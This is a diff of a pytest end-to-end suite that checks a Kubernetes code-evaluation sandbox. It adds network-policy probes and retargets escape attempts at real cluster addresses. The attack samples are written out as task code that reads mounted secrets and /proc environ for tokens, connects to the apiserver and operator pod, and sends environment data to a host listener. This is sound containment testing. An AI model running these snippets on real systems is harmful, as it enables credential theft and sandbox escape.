@@ -7,22 +7,21 @@ no credential, a read-only mount, the audit hook, a refused connection) raises, 
 The honest tasks' tests pass whatever the model wrote. So: the attack samples fail, the honest ones
 pass, pass@1 is exactly the honest share, and the token appears nowhere a program could send it.
 
-The network attacks are refused today by the sample's audit hook (pods share the host's network
-until the pod-networking issue: CNI plugins, kube-proxy, CoreDNS, a NetworkPolicy agent); the
-deny-all NetworkPolicy itself is checked by ``test_the_sandbox_network_policy_denies_all``, marked
-to turn on with that issue.
+The network attacks aim at real addresses: the apiserver (directly and through its Service), a
+listener on the host's underlay address, the operator pod. They are refused twice over: by the
+sample's audit hook, and by the run's deny-all NetworkPolicy, which the cluster's policy agent
+enforces (``test_the_sandbox_network_policy_denies_all`` checks it with no hook in the way).
 """
 
 from __future__ import annotations
 
 import json
 import secrets
-import socket
-import threading
 from pathlib import Path
 
 import pytest
 from e2e_support import condition, events_for, get, sample_data, status_of, tiny_run, wait, wait_phase
+from netprobe import HostListener, probe
 
 from localcluster.procs import pids_with
 
@@ -39,8 +38,9 @@ PROMPT = "def escape():\n    return 1\n\n\n# "
 HONEST = ["honest-1", "honest-2"]
 
 
-def attacks(ports: dict[str, int], pv_dirs: list[str]) -> dict[str, str]:
-    """Each attack, as a task's test code: it returns normally only if the attack worked."""
+def attacks(ways: dict[str, tuple[str, int]], pv_dirs: list[str]) -> dict[str, str]:
+    """Each attack, as a task's test code: it returns normally only if the attack worked. ``ways`` are
+    the (address, port) of what a program would reach out to."""
     return {
         "read-secrets": (
             "import os\nfound = []\nfor top in ('/var/run/secrets', '/run/secrets', '/etc/codex'):\n"
@@ -51,11 +51,13 @@ def attacks(ports: dict[str, int], pv_dirs: list[str]) -> dict[str, str]:
             "        try:\n            leaked.append(open(f'/proc/{pid}/environ', 'rb').read())\n"
             "        except OSError:\n            pass\n"
             f"assert any(b'HF_TOKEN' in e or {TOKEN.encode()!r} in e for e in leaked)\n"),
-        "connect-apiserver": f"import socket\nsocket.create_connection(('127.0.0.1', {ports['apiserver']}), 2)\n",
+        "connect-apiserver": f"import socket\nsocket.create_connection({ways['apiserver']!r}, 2)\n",
+        "connect-apiserver-service": f"import socket\nsocket.create_connection({ways['apiserver-service']!r}, 2)\n",
         "connect-host-listener": (
-            f"import socket\ns = socket.create_connection(('127.0.0.1', {ports['listener']}), 2)\n"
+            f"import socket\ns = socket.create_connection({ways['listener']!r}, 2)\n"
             "s.sendall(open('/proc/self/environ', 'rb').read())\n"),
-        "connect-operator-pod": f"import socket\nsocket.create_connection(('127.0.0.1', {ports['operator']}), 2)\n",
+        "connect-operator-pod": f"import socket\nsocket.create_connection({ways['operator']!r}, 2)\n",
+        "resolve-a-name": "import socket\nsocket.getaddrinfo('kubernetes.default.svc', 443)\n",
         "write-output-pvc": (
             f"import os\ntargets = ['/var/run/codex/data/pvc/codex-artifacts', '/var/run/codex/work', *{pv_dirs!r}]\n"
             "written = []\nfor d in targets:\n    try:\n"
@@ -74,34 +76,11 @@ def attacks(ports: dict[str, int], pv_dirs: list[str]) -> dict[str, str]:
     }
 
 
-def tasks_jsonl(ports: dict[str, int], pv_dirs: list[str]) -> str:
+def tasks_jsonl(ways: dict[str, tuple[str, int]], pv_dirs: list[str]) -> str:
     check = "\n\ndef check(candidate):\n    pass\n"
-    tests = {**{name: "pass\n" for name in HONEST}, **attacks(ports, pv_dirs)}
+    tests = {**{name: "pass\n" for name in HONEST}, **attacks(ways, pv_dirs)}
     return "".join(json.dumps({"task_id": name, "prompt": PROMPT, "entry_point": "escape",
                                "test": code + check}) + "\n" for name, code in tests.items())
-
-
-class Listener:
-    """A TCP listener on the host's loopback that records whatever reaches it."""
-
-    def __init__(self) -> None:
-        self.server = socket.create_server(("127.0.0.1", 0))
-        self.port = self.server.getsockname()[1]
-        self.received: list[bytes] = []
-        threading.Thread(target=self._serve, daemon=True).start()
-
-    def _serve(self) -> None:
-        while True:
-            try:
-                connection, _ = self.server.accept()
-            except OSError:
-                return
-            with connection:
-                connection.settimeout(2)
-                try:
-                    self.received.append(connection.recv(1 << 16) or b"<connected>")
-                except OSError:
-                    self.received.append(b"<connected>")
 
 
 def _pv_dir(cluster, namespace: str, claim: str) -> str:
@@ -110,21 +89,25 @@ def _pv_dir(cluster, namespace: str, claim: str) -> str:
     return cluster.get_json("pv", bound["spec"]["volumeName"])["spec"]["hostPath"]["path"]
 
 
-def _operator_port(operator) -> int:
+def _ways_out(cluster, operator, listener) -> dict[str, tuple[str, int]]:
+    """Where a program would reach out to: the apiserver (directly and through its Service), the host
+    listener, and the operator pod's metrics port (its address, and the port the Helm policy opens)."""
     pod = next(p for p in operator.pods() if p["status"].get("phase") == "Running")
-    return next(port["containerPort"] for c in pod["spec"]["containers"] for port in c.get("ports") or ())
+    metrics = next(port["containerPort"] for c in pod["spec"]["containers"] for port in c.get("ports") or ())
+    host, port = cluster.server.rsplit("//", 1)[1].rsplit(":", 1)
+    return {"apiserver": (host, int(port)), "apiserver-service": (cluster.network.apiserver_service_ip, 443),
+            "listener": (listener.address, listener.port), "operator": (pod["status"]["podIP"], metrics)}
 
 
 @pytest.fixture(scope="module")
 def escaped(cluster, module_namespace, operator):
     """The run, finished: (its status, the listener, the artifacts PV's host directory)."""
-    listener = Listener()
+    listener = HostListener(cluster.network.api_host)
     artifacts = _pv_dir(cluster, module_namespace, "codex-artifacts")
     pv_dirs = [str(p) for p in Path(artifacts).parent.iterdir()]  # every PV's directory on the host
-    ports = {"apiserver": int(cluster.server.rsplit(":", 1)[1]), "listener": listener.port,
-             "operator": _operator_port(operator)}
     cluster.apply({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "escape-tasks"},
-                   "data": {"tasks.jsonl": tasks_jsonl(ports, pv_dirs)}}, namespace=module_namespace)
+                   "data": {"tasks.jsonl": tasks_jsonl(_ways_out(cluster, operator, listener), pv_dirs)}},
+                  namespace=module_namespace)
     run = tiny_run("escape", steps=2, save_steps=2)
     run["spec"]["baseModel"]["tokenSecretRef"] = {"name": "hub-token", "key": "token"}
     run["spec"]["evaluation"]["tasks"] = {"configMap": {"name": "escape-tasks", "key": "tasks.jsonl"}}
@@ -174,19 +157,24 @@ def test_no_process_or_file_outlives_the_sandbox_stage(cluster, namespace, escap
     assert not list((cluster.agent_dir / "pods").glob(f"*_{uid}/volumes/**/{MARKER}"))
 
 
-@pytest.mark.xfail(strict=True, reason="NetworkPolicy is enforced once pods get their own network (the "
-                                       "pod-networking issue); until then this pod reaches the host")
-def test_the_sandbox_network_policy_denies_all(cluster, namespace, escaped):
+def test_the_sandbox_network_policy_denies_all(cluster, namespace, escaped, operator):
+    """The operator's deny-all policy around a run's sandbox pods, enforced: a pod with the sandbox's
+    labels reaches nothing (no pod, no Service, no DNS, not the host), while the same pod without the
+    sandbox component label reaches all of it, the operator's metrics port included (the Helm
+    chart's policy opens it)."""
+    if not cluster.network.real:
+        pytest.skip("the cluster runs on the loopback network: NetworkPolicy is not enforced there")
     _, listener, _ = escaped
+    ways = _ways_out(cluster, operator, listener)
+    targets = {name: ["tcp", *way] for name, way in ways.items()} | {"dns": ["dns", cluster.network.dns_ip, 53]}
     labels = get(cluster, "pod", _stage_pod(cluster, namespace, "sandbox"), namespace)["metadata"]["labels"]
-    probe = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "policy-probe", "labels": labels}, "spec": {
-        "restartPolicy": "Never", "automountServiceAccountToken": False,
-        "containers": [{"name": "probe", "image": "codex-trainer:dev", "command": ["python", "-c",
-                        f"import socket; socket.create_connection(('127.0.0.1', {listener.port}), 2)"]}]}}
-    cluster.apply(probe, namespace=namespace)
-    ended = wait("the probe to end", lambda: (lambda p: p if p["status"].get("phase") in ("Succeeded", "Failed")
-                                              else None)(get(cluster, "pod", "policy-probe", namespace)), 90)
-    assert ended["status"]["phase"] == "Failed"
+    everything = {name: True for name in targets}
+    unconfined = {k: v for k, v in labels.items() if k != "app.kubernetes.io/component"}
+    assert probe(cluster, namespace, "unconfined-probe", unconfined, targets, everything) == {
+        "seen": everything, "held": True}
+    nothing = {name: False for name in targets}
+    assert probe(cluster, namespace, "sandbox-probe", labels, targets, nothing) == {
+        "seen": nothing, "held": True}
 
 
 def _stage_pod(cluster, namespace: str, stage: str) -> str:
@@ -213,9 +201,8 @@ def test_the_sandbox_pod_itself_holds_nothing_without_the_executor(cluster, name
     """The sandbox Job's own pod template, running the attacks directly (no executor, no audit hook):
     Kubernetes is the boundary, the in-process guard only a courtesy."""
     _, listener, artifacts = escaped
-    ports = {"apiserver": int(cluster.server.rsplit(":", 1)[1]), "listener": listener.port,
-             "operator": _operator_port(operator)}
-    chosen = {name: code for name, code in attacks(ports, [str(p) for p in artifacts.parent.iterdir()]).items()
+    chosen = {name: code for name, code in attacks(_ways_out(cluster, operator, listener),
+                                                   [str(p) for p in artifacts.parent.iterdir()]).items()
               if name in POD_BOUNDARY}
     script = ("import json\nworked = {}\n"
               f"for name, code in {chosen!r}.items():\n"
